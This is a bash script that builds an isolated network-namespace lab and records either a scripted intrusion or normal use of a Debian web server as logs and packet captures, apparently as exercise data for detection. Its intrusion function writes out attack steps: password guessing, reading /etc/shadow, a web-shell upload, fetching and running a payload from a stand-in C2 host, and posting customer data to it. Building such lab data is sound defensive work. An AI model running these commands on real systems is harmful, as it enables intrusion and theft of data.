#!/bin/bash
# Records etc/examples/intrusion or etc/examples/ordinary: real servers and clients in network namespaces, one clock.
#   sudo etc/examples/record.sh intrusion|ordinary
# Debian 12 packages, none of them installed by this script: openssh-server openssh-client nginx-light php-cgi php-cli rsyslog auditd
#   cron sudo dnsmasq-base bind9-dnsutils tcpdump ethtool iproute2 curl openssl apt dpkg
# The kernel has one audit system, so the script refuses to run where audit is in use, and puts it back to "off" at the end.
set -euo pipefail

scenario=${1:-}
here=$(cd "$(dirname "$0")" && pwd)
tools=$here/tools
case $scenario in intrusion | ordinary) ;; *) echo "usage: $0 intrusion|ordinary" >&2; exit 2 ;; esac
[ "$(id -u)" = 0 ] || { echo "$0: needs root, for namespaces and audit" >&2; exit 1; }
missing=
for program in sshd ssh ssh-keygen nginx php-cgi php rsyslogd auditd auditctl cron sudo dnsmasq dig tcpdump ethtool ip curl openssl; do
  command -v $program >/dev/null || missing="$missing $program"
done
[ -z "$missing" ] || { echo "$0: not found:$missing (packages: see the top of this file)" >&2; exit 1; }

# A private mount namespace: every mount below is gone with the script.
if [ -z "${RECORDING:-}" ]; then
  exec env -i RECORDING=1 PATH=/usr/sbin:/usr/bin:/sbin:/bin LANG=C TZ=UTC unshare --mount --propagation private bash "$0" "$@"
fi
if ! auditctl -s | grep -q '^enabled 0' || ! auditctl -l | grep -q '^No rules'; then
  echo "$0: audit is in use on this machine; not touching it" >&2; exit 1
fi

work=$(mktemp -d) root=$work/web01 prefix=rec$$ pids=()
cleanup() {
  set +e
  auditctl -D >/dev/null; auditctl -e 0 >/dev/null; auditctl -b 64 >/dev/null
  for process in /proc/[0-9]*; do # whatever still runs inside web01 is ours
    [ "$(readlink "$process/root")" = "$root" ] && kill "${process#/proc/}" 2>/dev/null
  done
  for host in router web01 dns mirror office visitor attacker relay; do # and whatever runs in our networks
    for pid in $(ip netns pids "$prefix-$host" 2>/dev/null); do kill "$pid" 2>/dev/null; done
  done
  for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null; done
  wait
  for host in router web01 dns mirror office visitor attacker relay; do ip netns del "$prefix-$host" 2>/dev/null; done
  umount --recursive --lazy "$work"; rmdir "$work"
}
trap cleanup EXIT
trap 'exit 1' INT TERM
mount -t tmpfs -o mode=0755 tmpfs "$work"
start() { "$@" >>"$work/daemons.log" 2>&1 & pids+=($!); }
on() { local host=$1; shift; nsenter --net="/run/netns/$prefix-$host" "$@"; }

# ---- the network: one router, a server net, an office net, two nets outside ----------------------------------------------------------
add_host() { # host bridge address gateway
  ip netns add "$prefix-$1"
  on "$1" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  ip -n "$prefix-$1" link set lo up
  ip -n "$prefix-router" link add "to-$1" type veth peer name eth0 netns "$prefix-$1"
  ip -n "$prefix-router" link set "to-$1" master "$2" up
  ip -n "$prefix-$1" addr add "$3/24" dev eth0
  ip -n "$prefix-$1" link set eth0 up
  ip -n "$prefix-$1" route add default via "$4"
  on router ethtool -K "to-$1" tx off gso off tso off gro off >/dev/null # packets as on a wire: real sizes and checksums
  on "$1" ethtool -K eth0 tx off gso off tso off gro off >/dev/null
}
make_network() {
  ip netns add "$prefix-router"
  on router sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1 net.ipv4.ip_forward=1
  local bridge
  for bridge in servers:10.10.0.1 office:10.20.0.1 outside1:203.0.113.1 outside2:198.51.100.1; do
    ip -n "$prefix-router" link add "${bridge%:*}" type bridge
    ip -n "$prefix-router" addr add "${bridge#*:}/24" dev "${bridge%:*}"
    ip -n "$prefix-router" link set "${bridge%:*}" up
  done
  add_host web01 servers 10.10.0.10 10.10.0.1
  add_host dns servers 10.10.0.53 10.10.0.1
  add_host mirror servers 10.10.0.80 10.10.0.1
  add_host office office 10.20.0.40 10.20.0.1
  add_host visitor outside1 203.0.113.20 203.0.113.1
  add_host attacker outside1 203.0.113.66 203.0.113.1
  add_host relay outside2 198.51.100.23 198.51.100.1
}

# ---- web01: this machine's Debian under an overlay, with its own accounts, configuration, /dev, host name ---------------------------
web01() { nsenter --net="/run/netns/$prefix-web01" --uts="$work/uts" chroot "$root" "$@"; }
make_web01() {
  mkdir -p "$root" "$work/upper" "$work/overlay"
  mount -t overlay -o "lowerdir=/,upperdir=$work/upper,workdir=$work/overlay" overlay "$root"
  mount -t proc proc "$root/proc"
  mount -t tmpfs -o mode=0755 tmpfs "$root/dev"
  mount -t tmpfs -o mode=0755 tmpfs "$root/run"
  mount -t tmpfs -o mode=0755 tmpfs "$root/srv"
  mount -t tmpfs -o mode=1777 tmpfs "$root/var/tmp"
  mount -t tmpfs -o mode=0755 tmpfs "$root/home"
  mount -t tmpfs -o mode=0755 tmpfs "$root/var/log"
  mkdir "$root/dev/pts"; mount -t devpts -o newinstance,ptmxmode=0666,mode=0620,gid=5 devpts "$root/dev/pts"
  local node
  for node in null:3 zero:5 random:8 urandom:9; do mknod -m 666 "$root/dev/${node%:*}" c 1 "${node#*:}"; done
  mknod -m 666 "$root/dev/tty" c 5 0
  ln -s pts/ptmx "$root/dev/ptmx"; ln -s /proc/self/fd "$root/dev/fd"
  touch "$root"/var/log/{lastlog,wtmp,btmp} "$root/run/utmp" "$work/uts"; chmod 600 "$root/var/log/btmp"
  unshare --uts="$work/uts" hostname web01
  echo web01 >"$root/etc/hostname"
  printf '127.0.0.1 localhost\n10.10.0.10 web01.example web01\n' >"$root/etc/hosts"
  echo 'nameserver 10.10.0.53' >"$root/etc/resolv.conf"
  ln -sf /usr/share/zoneinfo/Etc/UTC "$root/etc/localtime"

  cp /usr/share/base-passwd/passwd.master "$root/etc/passwd"; cp /usr/share/base-passwd/group.master "$root/etc/group"
  rm -f "$root"/etc/{shadow,gshadow,subuid,subgid}* "$root"/etc/ssh/ssh_host_* "$root"/etc/ssh/sshd_config.d/* "$root"/etc/cron.*/[!.]* "$root"/etc/sudoers.d/*
  rm -rf "$root"/var/spool/cron/crontabs/* "$root"/etc/apt/sources.list* "$root"/etc/apt/preferences.d/* "$root"/etc/apt/apt.conf.d/*
  # neither systemd nor the right to raise limits can be counted on here, and PAM would fill auth.log with complaints about it
  sed -i '/pam_systemd\|pam_cap\|pam_limits/d' "$root"/etc/pam.d/{common-*,sshd,sudo,cron}
  web01 pwconv; web01 grpconv
  web01 useradd -r -d /run/sshd -s /usr/sbin/nologin sshd
  web01 useradd -m -u 1001 -s /bin/bash -G sudo,adm deploy; echo deploy:deploy2026 | web01 chpasswd
  web01 useradd -m -u 1002 -s /bin/bash -G sudo,adm alice; echo alice:Tower-of-bells-1887 | web01 chpasswd
  install -m 644 "$tools/sshd_config" "$root/etc/ssh/sshd_config"
  install -m 644 "$tools/rsyslog.conf" "$root/etc/rsyslog.conf"
  install -m 640 "$tools/auditd.conf" "$root/etc/audit/auditd.conf"
  install -m 640 "$tools/audit.rules" "$root/etc/audit/audit.rules"
  rm -f "$root"/etc/audit/plugins.d/*
  install -m 644 "$tools/nginx-web01.conf" "$root/etc/nginx/nginx.conf"
  printf 'PATH=/usr/sbin:/usr/bin:/sbin:/bin\n* * * * * www-data /usr/bin/php /srv/www/shop/cron.php\n' >"$root/etc/crontab"
  mkdir -p "$root"/srv/www "$root"/srv/www/data "$root"/run/{sshd,php} "$root"/var/log/{nginx,audit} "$root"/var/lib/nginx/body
  cp -r "$tools/site" "$root/srv/www/shop"; mkdir "$root/srv/www/shop/uploads"
  seq 1 4000 | awk '{ printf "%d,customer-%d@mail.example,%d bells\n", $1, $1 * 7919 % 10007, $1 % 12 }' >"$root/srv/www/data/customers.csv"
  chown -R www-data: "$root"/srv/www "$root"/run/php
  web01 ssh-keygen -q -t ed25519 -N '' -C root@web01 -f /etc/ssh/ssh_host_ed25519_key
  certificate www.example "$root/etc/nginx/www.example"
}
certificate() { # name path
  openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=$1" -addext "subjectAltName=DNS:$1" -keyout "$2.key" -out "$2.pem" 2>/dev/null
}

# ---- the others ----------------------------------------------------------------------------------------------------------------------
start_outside() { # host names
  local folder=$work/$1
  mkdir -p "$folder/files" "$folder/body"; chmod 711 "$folder"; chown nobody "$folder/body"
  certificate "$2" "$folder/outside"
  sed "s|ROOT|$folder|" "$tools/nginx-outside.conf" >"$folder/nginx.conf"
  start on "$1" nginx -c "$folder/nginx.conf" -e "$folder/error.log"
}
start_names() {
  start on dns dnsmasq --keep-in-foreground --conf-file=/dev/null --pid-file= --no-hosts --no-resolv --user=nobody --listen-address=10.10.0.53 \
    --bind-interfaces --server=/c2.example/198.51.100.23 --server=/exfil.example/198.51.100.23 \
    --host-record=www.example,10.10.0.10 --host-record=deb.example,10.10.0.80 --host-record=partner.example,10.10.0.80 \
    --host-record=mail.example,10.10.0.81 --mx-host=example,mail.example,10 --txt-record=example,"v=spf1 mx -all" \
    --txt-record=2026a._domainkey.example,"v=DKIM1; k=ed25519; p=11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo=" \
    --host-record=d2f4a8c0b1e6.edge-static-images-europe-north.partner.example,10.10.0.80 --local=/example/
  start on relay dnsmasq --keep-in-foreground --conf-file=/dev/null --pid-file= --no-hosts --no-resolv --user=nobody --listen-address=198.51.100.23 \
    --bind-interfaces --local=/example/ --address=/c2.example/198.51.100.23 --address=/exfil.example/198.51.100.23
}
start_web01() { # after audit, so that the services' own start is on record
  start web01 rsyslogd -n -i /run/rsyslogd.pid; sleep 1
  start web01 /usr/sbin/sshd -D
  start web01 setpriv --reuid=33 --regid=33 --init-groups env -i PATH=/usr/bin:/bin PHP_FCGI_CHILDREN=2 \
    php-cgi -d upload_tmp_dir=/var/tmp -b /run/php/php.sock
  start web01 nginx -g 'daemon off;'
  start web01 cron -f
}
start_recording() {
  start on web01 tcpdump -q -Z root -i eth0 -s 0 -U -w "$work/traffic.pcap"
  # auditd talks to the kernel from the first network namespace, and takes everything else from web01.
  start nsenter --uts="$work/uts" chroot "$root" auditd -n -s nochange
  local auditd=${pids[-1]}; sleep 1
  chroot "$root" auditctl -R /etc/audit/audit.rules >/dev/null
  auditctl -e 1 >/dev/null; sleep 1
  kill -USR1 "$auditd"; sleep 1 # rotate: the record begins after auditd's own start and the loading of rules
}
stop_recording() {
  sleep 3
  local out=$here/$scenario
  rm -rf "$out"; mkdir -p "$out/uploads"
  install -m 644 "$root"/var/log/{auth.log,nginx/access.log,audit/audit.log} "$work/traffic.pcap" "$out/"
  install -m 644 -p "$root"/srv/www/shop/uploads/* "$out/uploads/"
  {
    printf 'name: %s\ndescription: "%s"\nexercise: true\ninputs:\n' "$scenario" "$1"
    printf '  - { path: traffic.pcap, kind: pcap, host: web01 }\n'
    printf '  - { path: auth.log, kind: syslog, host: web01, timezone: UTC, year: %s }\n' "$(date +%Y)"
    printf '  - { path: access.log, kind: access, host: web01, timezone: UTC, year: %s }\n' "$(date +%Y)"
    printf '  - { path: audit.log, kind: audit, host: web01, timezone: UTC, year: %s }\n' "$(date +%Y)"
    (cd "$out" && for file in uploads/*; do
      printf '  - { path: %s, as: /srv/www/shop/%s, kind: file, host: web01, observed: "%s" }\n' "$file" "$file" "$(date -r "$root/srv/www/shop/$file" +%Y-%m-%dT%H:%M:%SZ)"
    done)
  } >"$out/recording.yaml"
  if [ -n "${SUDO_UID:-}" ]; then chown -R "$SUDO_UID:${SUDO_GID:-0}" "$out"; fi
}

# ---- what people do ------------------------------------------------------------------------------------------------------------------
firefox='Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
safari='Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1'
browse() { # host agent path...
  local host=$1 agent=$2 path; shift 2
  for path in "$@"; do on "$host" curl -s -o /dev/null -A "$agent" -H 'Host: www.example' "http://10.10.0.10$path" || true; sleep 0.7; done
}
ssh_to_web01() { # host user passwords ssh-arguments...: one password per question
  local host=$1 user=$2 answers=$work/answers.$BASHPID questions
  printf '%s\n' $3 >"$answers"; questions=$(wc -w <<<"$3"); shift 3
  ANSWERS=$answers SSH_ASKPASS=$tools/askpass.sh SSH_ASKPASS_REQUIRE=force on "$host" ssh -F none -o StrictHostKeyChecking=no \
    -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o NumberOfPasswordPrompts=$questions "$@" "$user@10.10.0.10" >>"$work/sessions.log" 2>&1 || true
}
typing() { local line; sleep 2; for line in "$@"; do printf '%s\n' "$line"; sleep 1.5; done; }

intrusion() {
  install -m 644 "$tools/beacon.sh" "$work/relay/files/stage.sh"
  browse visitor "$firefox" / /style.css /catalogue.html
  echo "1/6 looking for paths"
  local path user password
  while read -r path; do on attacker curl -s -o /dev/null -H 'Host: www.example' "http://10.10.0.10$path"; sleep 0.2; done <"$tools/paths.txt"
  echo "2/6 guessing passwords"
  while read -r user password; do
    ssh_to_web01 attacker "$user" "$password" -n -o PreferredAuthentications=password
  done <"$tools/guesses.txt"
  browse visitor "$firefox" /contact.html /delivery.html
  echo "3/6 a session with the guessed password"
  typing 'id' 'sudo -l' deploy2026 'sudo cat /etc/shadow' 'sudo useradd -m -s /bin/bash -G sudo support' 'cat /etc/ssh/sshd_config' exit |
    ssh_to_web01 attacker deploy deploy2026 -tt -o PreferredAuthentications=password
  echo "4/6 web shell"
  on attacker curl -s -o /dev/null -A "$firefox" -H 'Host: www.example' -F "file=@$tools/avatar.php;type=image/gif" http://10.10.0.10/upload.php
  sleep 2
  shell 'id'; shell 'whoami'; shell 'uname -nsm'; shell 'cat /etc/passwd'; shell 'ls -la /srv/www'
  echo "5/6 beacon"
  shell 'curl -s -o /var/tmp/.cache.sh http://relay.c2.example/stage.sh'
  shell 'nohup sh /var/tmp/.cache.sh >/dev/null 2>&1 &'
  sleep 25
  browse visitor "$firefox" /catalogue.html
  echo "6/6 archive"
  shell 'tar czf /var/tmp/.cache.tgz -C /srv/www data'
  shell 'curl -s --data-binary @/var/tmp/.cache.tgz -H "Content-Type: application/octet-stream" http://relay.c2.example/in/web01.tgz'
  shell 'curl -sk https://drop.exfil.example/api/done'
  sleep 25
  shell 'rm -f /var/tmp/.cache.tgz /var/tmp/.cache.sh'
}
shell() {
  on attacker curl -s -o /dev/null -A "$firefox" -H 'Host: www.example' -G --data-urlencode "cmd=$1" http://10.10.0.10/uploads/avatar.php
  sleep 2.5
}

ordinary() {
  make_package
  ssh-keygen -q -t ed25519 -N '' -C alice@office -f "$work/alice"
  install -d -m 700 -o 1002 -g 1002 "$root/home/alice/.ssh"; install -m 600 -o 1002 -g 1002 "$work/alice.pub" "$root/home/alice/.ssh/authorized_keys"
  echo "1/5 visitors"
  browse visitor "$firefox" / /style.css /favicon.ico /catalogue.html '/search.php?q=ship%27s+bell+20+cm' /contact.html
  browse office "$safari" / /style.css /apple-touch-icon.png /delivery.html '/search.php?q=who+am+i+buying+from%3F+id+card+needed%3F' /robots.txt
  on visitor curl -s -o /dev/null -A "$firefox" -H 'Host: www.example' -F "file=@/usr/share/pixmaps/debian-logo.png;type=image/png;filename=photo.png" http://10.10.0.10/upload.php
  on visitor curl -s -o /dev/null -A "$firefox" -H 'Host: www.example' -F "file=@$tools/order.pdf;type=application/pdf" http://10.10.0.10/upload.php
  browse visitor "$firefox" /uploads/photo.png /old-catalogue.html /catalogue.html
  on visitor curl -s -o /dev/null -A "$firefox" --cacert "$root/etc/nginx/www.example.pem" --resolve www.example:443:10.10.0.10 https://www.example/
  echo "2/5 an administrator's morning"
  typing 'uptime' 'df -h /' 'ls -l /srv/www/shop' 'sudo nginx -t' Tower-of-bells-1887 'sudo nginx -s reload' 'sudo tail -n 5 /var/log/nginx/access.log' \
    'ps aux | head -n 3' 'sudo tar czf /var/backups/shop.tar.gz -C /srv/www shop' 'grep -c GET /var/log/nginx/access.log' exit |
    ssh_to_web01 office alice none -tt -i "$work/alice"
  echo "3/5 packages"
  typing 'sudo apt-get update' Tower-of-bells-1887 'sudo apt-get install -y shop-theme' '' '' 'dpkg-query -s shop-theme' 'curl -s http://deb.example/index.html -o /dev/null' exit |
    ssh_to_web01 office alice none -tt -i "$work/alice"
  echo "4/5 a mistyped password"
  typing 'id' 'whoami' 'crontab -l' 'dig +short www.example' exit | ssh_to_web01 office deploy 'deploy2062 deploy2026' -tt -o PreferredAuthentications=password
  echo "5/5 names and partners"
  local query
  for query in 'A partner.example' 'MX example' 'TXT example' 'TXT 2026a._domainkey.example' 'AAAA deb.example' 'PTR 10.0.10.10.in-addr.arpa' \
    'A d2f4a8c0b1e6.edge-static-images-europe-north.partner.example' 'A no-such-name.example'; do
    web01 dig +short -t $query >/dev/null || true; sleep 0.5
  done
  web01 curl -s --cacert /etc/ssl/partner.pem -o /dev/null https://partner.example/api/stock
  web01 curl -s -o /dev/null -d 'order=17&bell=20cm' http://partner.example/api/orders
  browse office "$safari" / /catalogue.html
  sleep 20
}
make_package() { # a real package on a real, tiny mirror
  local tree=$work/package files=$work/mirror/files
  mkdir -p "$tree/DEBIAN" "$tree/usr/share/shop-theme"
  cp "$tools/site/style.css" "$tree/usr/share/shop-theme/"
  printf 'Package: shop-theme\nVersion: 1.2\nArchitecture: all\nMaintainer: Example Bells <shop@example.org>\nDescription: colours of the shop\n' >"$tree/DEBIAN/control"
  dpkg-deb --root-owner-group --build "$tree" "$files/shop-theme_1.2_all.deb" >/dev/null
  (cd "$files" && dpkg-deb -f shop-theme_1.2_all.deb && printf 'Filename: ./shop-theme_1.2_all.deb\nSize: %s\nSHA256: %s\n' \
    "$(stat -c %s shop-theme_1.2_all.deb)" "$(sha256sum shop-theme_1.2_all.deb | cut -d' ' -f1)") >"$work/Packages"
  cp "$work/Packages" "$files/"; cp "$tools/site/index.html" "$files/"
  echo 'deb [trusted=yes] http://deb.example ./' >"$root/etc/apt/sources.list"
  cp "$work/mirror/outside.pem" "$root/etc/ssl/partner.pem"
}

make_network
make_web01
start_outside relay relay.c2.example
start_outside mirror partner.example
start_names
start_recording
start_web01
sleep 2
echo "recording $scenario"
case $scenario in
  intrusion) intrusion; stop_recording "password guessing, web shell, beacon over HTTP and DNS, archive sent out; one attacker, one server" ;;
  ordinary) ordinary; stop_recording "the same services under normal use: visitors, administrators, packages; nothing to raise" ;;
esac
ls -l "$here/$scenario"
